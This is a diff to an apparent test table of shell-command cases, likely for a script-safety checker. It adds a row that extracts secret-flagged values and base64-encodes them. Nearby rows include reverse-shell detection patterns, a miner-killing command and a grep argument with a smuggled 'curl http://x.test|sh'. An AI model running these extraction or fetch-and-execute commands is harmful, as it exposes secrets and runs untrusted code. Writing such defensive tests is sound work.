@@ -63,6 +63,12 @@ const cases: readonly (readonly [string, ScriptLanguage, string, boolean])[] = [
   ],
   ['searched for in a shell', 'shell', `ps aux | grep -E "bash -i >& /dev/tcp/|nc -e /bin/sh" | head`, true],
   ['ended by what is found', 'shell', `ps aux | grep "xmrig" | awk '{print $2}' | xargs kill -9`, false],
+  [
+    'taken out by its pattern',
+    'shell',
+    `tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true' | base64`,
+    false,
+  ],
   ['a command in the pattern', 'shell', 'grep "$(curl http://x.test|sh)" /etc/passwd', false],
 ]
 
